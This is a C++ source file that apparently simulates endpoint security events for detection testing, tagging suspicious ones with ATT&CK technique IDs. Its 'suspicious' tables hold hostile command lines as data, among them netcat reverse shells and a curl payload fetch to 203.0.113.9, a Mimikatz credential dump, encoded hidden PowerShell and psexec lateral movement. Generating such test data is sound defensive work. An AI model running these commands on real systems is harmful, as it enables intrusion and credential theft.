#include "simulate/draw.hpp"
#include "simulate/generators.hpp"

#include <fmt/core.h>

#include <algorithm>
#include <array>

namespace spoor::simulate {

namespace {

constexpr std::array<Program, 12> windows_programs = {
    {{"outlook.exe",
      R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "OUTLOOK.EXE /recycle"},
     {"excel.exe",
      R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      R"(EXCEL.EXE "C:\Users\Public\Documents\plan.xlsx")"},
     {"chrome.exe",
      R"(C:\Program Files\Google\Chrome\Application\chrome.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "chrome.exe --type=renderer"},
     {"teams.exe",
      R"(C:\Program Files\Teams\teams.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "teams.exe --background"},
     {"svchost.exe",
      R"(C:\Windows\System32\svchost.exe)",
      "services.exe",
      R"(C:\Windows\System32\services.exe)",
      "svchost.exe -k netsvcs -p"},
     {"backgroundTaskHost.exe",
      R"(C:\Windows\System32\backgroundTaskHost.exe)",
      "svchost.exe",
      R"(C:\Windows\System32\svchost.exe)",
      "backgroundTaskHost.exe -ServerName:App"},
     {"notepad.exe",
      R"(C:\Windows\System32\notepad.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "notepad.exe notes.txt"},
     {"OneDrive.exe",
      R"(C:\Program Files\Microsoft OneDrive\OneDrive.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "OneDrive.exe /background"},
     {"MpCmdRun.exe",
      R"(C:\Program Files\Windows Defender\MpCmdRun.exe)",
      "svchost.exe",
      R"(C:\Windows\System32\svchost.exe)",
      "MpCmdRun.exe -Scan -ScanType 1"},
     {"cmd.exe",
      R"(C:\Windows\System32\cmd.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      R"(cmd.exe /c C:\Tools\inventory.bat)"},
     {"powershell.exe",
      R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
      "svchost.exe",
      R"(C:\Windows\System32\svchost.exe)",
      R"(powershell.exe -File C:\Tools\report.ps1)"},
     {"acrobat.exe",
      R"(C:\Program Files\Adobe\Acrobat\acrobat.exe)",
      "explorer.exe",
      R"(C:\Windows\explorer.exe)",
      "acrobat.exe manual.pdf"}}};

constexpr std::array<Program, 12> linux_programs = {
    {{"nginx", "/usr/sbin/nginx", "systemd", "/usr/lib/systemd/systemd", "nginx: worker process"},
     {"sshd", "/usr/sbin/sshd", "systemd", "/usr/lib/systemd/systemd", "sshd: accepted"},
     {"python3",
      "/usr/bin/python3",
      "systemd",
      "/usr/lib/systemd/systemd",
      "python3 /opt/app/worker.py"},
     {"rsync", "/usr/bin/rsync", "cron", "/usr/sbin/cron", "rsync -a /srv /backup"},
     {"logrotate",
      "/usr/sbin/logrotate",
      "cron",
      "/usr/sbin/cron",
      "logrotate /etc/logrotate.conf"},
     {"bash", "/usr/bin/bash", "cron", "/usr/sbin/cron", "bash /opt/app/health.sh"},
     {"node", "/usr/bin/node", "systemd", "/usr/lib/systemd/systemd", "node /opt/app/server.js"},
     {"postgres",
      "/usr/lib/postgresql/15/bin/postgres",
      "postgres",
      "/usr/lib/postgresql/15/bin/postgres",
      "postgres: autovacuum worker"},
     {"apt-get", "/usr/bin/apt-get", "systemd", "/usr/lib/systemd/systemd", "apt-get -q update"},
     {"journalctl", "/usr/bin/journalctl", "bash", "/usr/bin/bash", "journalctl --since today"},
     {"df", "/usr/bin/df", "bash", "/usr/bin/bash", "df -h"},
     {"node_exporter",
      "/usr/bin/node_exporter",
      "systemd",
      "/usr/lib/systemd/systemd",
      "node_exporter"}}};

constexpr std::array<Program, 4> suspicious_windows = {
    {{"mimikatz.exe",
      R"(C:\Users\Public\mimikatz.exe)",
      "cmd.exe",
      R"(C:\Windows\System32\cmd.exe)",
      "mimikatz.exe sekurlsa::logonpasswords",
      "T1003.001"},
     {"psexec.exe",
      R"(C:\Tools\psexec.exe)",
      "cmd.exe",
      R"(C:\Windows\System32\cmd.exe)",
      R"(psexec.exe \\host2 -s cmd.exe)",
      "T1569.002"},
     {"powershell.exe",
      R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
      "cmd.exe",
      R"(C:\Windows\System32\cmd.exe)",
      "powershell.exe -nop -w hidden -enc SQBFAFgA",
      "T1059.001"},
     {"nc.exe",
      R"(C:\Users\Public\nc.exe)",
      "cmd.exe",
      R"(C:\Windows\System32\cmd.exe)",
      "nc.exe -e cmd.exe 203.0.113.9 4444",
      "T1095"}}};

constexpr std::array<Program, 4> suspicious_linux = {
    {{"nc", "/tmp/nc", "bash", "/usr/bin/bash", "nc -e /bin/sh 203.0.113.9 4444", "T1095"},
     {"nmap", "/usr/bin/nmap", "bash", "/usr/bin/bash", "nmap -sS 10.0.0.0/24", "T1046"},
     {"curl", "/usr/bin/curl", "bash", "/usr/bin/bash", "curl -s http://203.0.113.9/x.sh", "T1105"},
     {"sh", "/usr/bin/sh", "nginx", "/usr/sbin/nginx", "sh -c id", "T1059.004"}}};

struct Folder {
    std::string_view path;  // with its separator
    std::string_view stem;
    std::string_view extension;
};

constexpr std::array<Folder, 10> windows_files = {
    {{R"(C:\Users\Public\Documents\)", "report", ".docx"},
     {R"(C:\Users\Public\Documents\)", "budget", ".xlsx"},
     {R"(C:\Users\Public\Documents\)", "minutes", ".txt"},
     {R"(C:\Users\Public\Pictures\)", "photo", ".jpg"},
     {R"(C:\ProgramData\App\)", "cache", ".tmp"},
     {R"(C:\ProgramData\App\Logs\)", "app", ".log"},
     {R"(C:\Users\Public\Downloads\)", "manual", ".pdf"},
     {R"(C:\Windows\Temp\)", "setup", ".exe"},
     {R"(C:\Users\Public\Downloads\)", "macro", ".ps1"},
     {R"(C:\Windows\System32\)", "helper", ".dll"}}};
constexpr std::array<Folder, 10> linux_files = {{{"/srv/data/", "export", ".csv"},
                                                 {"/var/log/app/", "service", ".log"},
                                                 {"/var/lib/app/", "state", ".db"},
                                                 {"/home/shared/", "notes", ".txt"},
                                                 {"/srv/www/", "index", ".html"},
                                                 {"/var/cache/app/", "page", ".tmp"},
                                                 {"/etc/app/", "app", ".conf"},
                                                 {"/tmp/", "run", ".sh"},
                                                 {"/tmp/", "tool", ".py"},
                                                 {"/usr/local/lib/", "libaux", ".so"}}};
// The last three of each list are the kinds of files that are on the original's watch list.
constexpr std::size_t num_plain_files = 7;
constexpr std::array<std::string_view, 5> file_actions = {
    "created", "modified", "deleted", "renamed", "permission_changed"};

struct RegistryValue {
    std::string_view key;
    std::string_view name;
    std::string_view data;
    std::string_view type;
};

constexpr std::array<RegistryValue, 6> registry_values = {
    {{R"(HKCU\Software\Microsoft\Office\16.0\Common)", "LastUsed", "1", "REG_DWORD"},
     {R"(HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer)",
      "ShellState",
      "24",
      "REG_BINARY"},
     {R"(HKLM\System\CurrentControlSet\Services\bam)", "State", "0", "REG_DWORD"},
     {R"(HKLM\Software\App\Update)", "Version", "4.2.1", "REG_SZ"},
     {R"(HKLM\Software\Microsoft\Windows\CurrentVersion\Run)",
      "Updater",
      R"(C:\Users\Public\updater.exe)",
      "REG_SZ"},
     {R"(HKLM\System\CurrentControlSet\Control\Lsa)", "Security Packages", "aux", "REG_MULTI_SZ"}}};
constexpr std::size_t num_plain_registry_values = 4;
constexpr std::array<std::string_view, 3> registry_actions = {"created", "modified", "deleted"};

struct Service {
    std::string_view name;
    std::string_view display_name;
    std::string_view path;
    bool windows;
    bool suspicious = false;
};

constexpr std::array<Service, 10> services = {
    {{"Spooler", "Print Spooler", R"(C:\Windows\System32\spoolsv.exe)", true},
     {"wuauserv", "Windows Update", R"(C:\Windows\System32\svchost.exe)", true},
     {"BITS", "Background Transfer", R"(C:\Windows\System32\svchost.exe)", true},
     {"WinDefend", "Antivirus", R"(C:\Program Files\Windows Defender\MsMpEng.exe)", true},
     {"svcupd", "Service Updater", R"(C:\Users\Public\svcupd.exe)", true, true},
     {"nginx", "nginx web server", "/usr/sbin/nginx", false},
     {"ssh", "OpenSSH server", "/usr/sbin/sshd", false},
     {"cron", "Regular jobs", "/usr/sbin/cron", false},
     {"postgresql", "PostgreSQL", "/usr/lib/postgresql/15/bin/postgres", false},
     {"kworkerd", "kworkerd", "/tmp/.k/kworkerd", false, true}}};
constexpr std::array<std::string_view, 5> service_actions = {
    "created", "started", "stopped", "modified", "deleted"};
constexpr std::array<std::string_view, 3> start_types = {"automatic", "manual", "disabled"};

constexpr std::array<std::string_view, 3> failure_reasons = {
    "bad password", "unknown user", "account locked"};

EventText& begin(EventText& text, Draft& d, std::string_view type) {
    return text.begin(d.time, draw_severity(d.random, d.realistic), type, d.host.name, "host");
}

const Program& draw_program(Draft& d) {
    const bool windows = runs_windows(d.host.role);
    // At `basic` one list, the suspicious names among the others.
    if (!d.realistic) {
        const std::size_t x = d.random.below(windows_programs.size() + suspicious_windows.size());
        if (x >= windows_programs.size()) {
            return (windows ? suspicious_windows : suspicious_linux)[x - windows_programs.size()];
        }
        return (windows ? windows_programs : linux_programs)[x];
    }
    const std::size_t i = d.choose(20, windows_programs.size(), 6);
    return (windows ? windows_programs : linux_programs)[i];
}

// Most programs end; the longer they run the rarer.
void add_termination(Draft& d, const ProcessRun& run) {
    if (d.followers == nullptr || d.random.below(10) >= 8) {
        return;
    }
    Message end;
    end.time = d.time + random_gap(d.random, std::chrono::minutes{4});
    end.host = d.host.name;
    EventText text(end.json, d.strip_labels);
    text.begin(end.time, EventSeverity::low, "process", d.host.name, "host");
    set_process(text, run, "terminated");
    text.end();
    d.followers->push_back(std::move(end));
}

void write_process(Draft& d) {
    EventText text(d.json, d.strip_labels);
    const ProcessRun run{
        draw_program(d), d.world.pick_account(d.host, d.random), d.process_id(), d.process_id()};
    // With chains the ends come by themselves.
    const bool ends = d.followers == nullptr && d.random.below(100) < (d.realistic ? 15 : 50);
    begin(text, d, "process");
    set_process(text, run, ends ? "terminated" : "created");
    if (!run.program.technique.empty()) {
        text.suspect("Program on the watch list", {run.program.technique});
    } else if (d.drawn_suspicious()) {
        text.suspect("Unusual program", {"T1059"});
    }
    text.end();
    if (!ends) {
        add_termination(d, run);
    }
}

std::string_view draw_file_action(Draft& d) {
    if (!d.realistic) {
        return pick(d.random, file_actions);
    }
    constexpr std::array<std::uint64_t, 5> upto = {30, 80, 90, 98, 100};
    const std::uint64_t x = d.random.below(100);
    std::size_t i = 0;
    while (x >= upto[i]) {
        ++i;
    }
    return file_actions[i];
}

void set_file_change(EventText& text, Draft& d, std::string_view action, std::string_view path) {
    if (action == "renamed") {
        const std::string renamed = fmt::format("{}.old", path);
        text.set("old_file_path", path).set("new_file_path", std::string_view(renamed));
    } else if (action == "permission_changed") {
        const bool windows = runs_windows(d.host.role);
        text.set("old_permissions", windows ? "Users:R" : "0640")
            .set("new_permissions", windows ? "Users:RW" : "0644");
    }
}

void write_file(Draft& d) {
    EventText text(d.json, d.strip_labels);
    const auto& files = runs_windows(d.host.role) ? windows_files : linux_files;
    const std::size_t index = d.realistic ? d.choose(21, num_plain_files, 4) : d.choose(21, 10, 0);
    const Folder& folder = files[index];
    const std::string name =
        fmt::format("{}_{}{}", folder.stem, d.random.between(1, 99), folder.extension);
    const std::string path = fmt::format("{}{}", folder.path, name);
    const std::string_view action = draw_file_action(d);
    begin(text, d, "file")
        .set("action", action)
        .set("file_path", std::string_view(path))
        .set("file_name", std::string_view(name))
        .set("file_extension", folder.extension)
        .set("user", d.world.pick_account(d.host, d.random))
        .set("process_name", draw_program(d).name)
        .set("process_id", d.process_id());
    set_file_change(text, d, action, path);
    if (index >= num_plain_files && action == "created") {
        text.suspect("Program or script written", {"T1105"});
    } else if (!d.realistic && action == "permission_changed" && d.random.below(2) == 0) {
        text.suspect("Permissions changed", {"T1222"});
    } else if (d.drawn_suspicious()) {
        text.suspect("Unusual file access", {"T1005"});
    }
    text.end();
}

void write_registry(Draft& d) {
    if (!runs_windows(d.host.role)) {
        write_process(d);
        return;
    }
    EventText text(d.json, d.strip_labels);
    const std::size_t index = d.realistic ? d.choose(22, num_plain_registry_values, 3)
                                          : d.choose(22, registry_values.size(), 0);
    const RegistryValue& value = registry_values[index];
    begin(text, d, "registry")
        .set("action", d.realistic ? registry_actions[1] : pick(d.random, registry_actions))
        .set("registry_key", value.key)
        .set("registry_value_name", value.name)
        .set("registry_value_data", value.data)
        .set("registry_value_type", value.type)
        .set("user", d.world.pick_account(d.host, d.random))
        .set("process_name", draw_program(d).name)
        .set("process_id", d.process_id());
    if (index >= num_plain_registry_values) {
        text.suspect("Autostart or security setting changed",
                     {index == num_plain_registry_values ? "T1547.001" : "T1112"});
    } else if (d.drawn_suspicious()) {
        text.suspect("Unusual registry change", {"T1112"});
    }
    text.end();
}

void write_authentication(Draft& d) {
    EventText text(d.json, d.strip_labels);
    const bool windows = runs_windows(d.host.role);
    const bool fails = d.random.below(1000) < (d.realistic ? 20 : 200);
    const std::string_view account = d.world.pick_account(d.host, d.random);
    const auto& hosts = d.world.hosts();
    const std::size_t from = d.realistic ? trait(d.host.seed, 23, d.random.below(4)) % hosts.size()
                                         : d.random.below(hosts.size());
    begin(text, d, "authentication")
        .set("user", account)
        .set("user_name", account)
        .set("authentication_type",
             windows ? std::string_view(d.random.below(4) == 0 ? "NTLM" : "Kerberos")
                     : std::string_view(d.random.below(4) == 0 ? "pam" : "ssh"))
        .set("authentication_status", fails ? "failure" : "success")
        .set_address("source_ip", hosts[from].address)
        .set("source_hostname", std::string_view(hosts[from].name));
    if (fails) {
        text.set("failure_reason",
                 d.realistic ? failure_reasons[0] : pick(d.random, failure_reasons))
            .suspect("Failed authentication", {"T1110"});
    }
    text.end();
}

void write_service(Draft& d) {
    EventText text(d.json, d.strip_labels);
    const bool windows = runs_windows(d.host.role);
    // Half of the list is each system's; the last of each half is the suspicious one.
    constexpr std::size_t half = services.size() / 2;
    const std::size_t among = d.realistic ? half - 1 : half;
    const Service& service = services[(windows ? 0 : half) + d.random.below(among)];
    begin(text, d, "service")
        .set("action",
             d.realistic ? service_actions[1 + d.random.below(2)] : pick(d.random, service_actions))
        .set("service_name", service.name)
        .set("service_display_name", service.display_name)
        .set("service_type", windows ? "win32_own_process" : "systemd")
        .set("service_start_type", d.realistic ? start_types[0] : pick(d.random, start_types))
        .set("user", windows ? "SYSTEM" : "root")
        .set("process_name", windows ? "services.exe" : "systemd")
        .set("process_id", d.process_id())
        .set("binary_path", service.path);
    if (service.suspicious) {
        text.suspect("Service from an unusual place", {windows ? "T1543.003" : "T1543.002"});
    } else if (d.drawn_suspicious()) {
        text.suspect("Unusual service change", {windows ? "T1543.003" : "T1543.002"});
    }
    text.end();
}

constexpr std::array<Kind, 5> table = {{{"process", write_process, 520},
                                        {"file", write_file, 280},
                                        {"registry", write_registry, 50},
                                        {"authentication", write_authentication, 130},
                                        {"service", write_service, 20}}};

}  // namespace

std::span<const Kind> endpoint_kinds() {
    return table;
}

void set_process(EventText& text, const ProcessRun& run, std::string_view action) {
    text.set("action", action)
        .set("process_name", run.program.name)
        .set("process_path", run.program.path)
        .set("process_id", run.process_id)
        .set("parent_process_name", run.program.parent_name)
        .set("parent_process_path", run.program.parent_path)
        .set("parent_process_id", run.parent_id)
        .set("user", run.account)
        .set("command_line", run.program.command_line);
}

}  // namespace spoor::simulate
